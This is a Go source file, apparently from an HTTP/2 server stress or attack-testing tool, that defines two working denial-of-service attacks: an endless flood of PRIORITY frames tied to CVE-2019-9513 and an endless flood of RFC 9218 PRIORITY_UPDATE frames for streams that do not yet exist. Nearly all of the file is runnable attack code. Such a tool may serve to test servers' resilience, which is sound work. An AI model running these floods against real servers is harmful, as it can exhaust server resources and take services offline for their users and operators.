package main

import (
	"context"
	"encoding/binary"

	"golang.org/x/net/http2"
)

// priorityFlood shuffles priorities.
var priorityFlood = &attack{
	name: "priority-flood", what: "PRIORITY without end (CVE-2019-9513)",
	run: func(ctx context.Context, e *enemy) error {
		for i := uint32(0); ctx.Err() == nil; i++ {
			p := http2.PriorityParam{StreamDep: i % 1000 * 2, Weight: uint8(i)}
			if err := e.alive(e.fr.WritePriority(1+i%1000*2+1000, p)); err != nil {
				return err
			}
		}
		return nil
	},
}

// priorityUpdateFlood gives streams that do not exist yet priorities.
var priorityUpdateFlood = &attack{
	name: "priority-update-flood", what: "PRIORITY_UPDATE (RFC 9218) without end",
	run: func(ctx context.Context, e *enemy) error {
		for i := uint32(0); ctx.Err() == nil; i++ {
			p := binary.BigEndian.AppendUint32(nil, 1+i%100_000*2)
			if err := e.frame(0x10, 0, 0, append(p, "u=0, i"...)); err != nil {
				return err
			}
		}
		return nil
	},
}
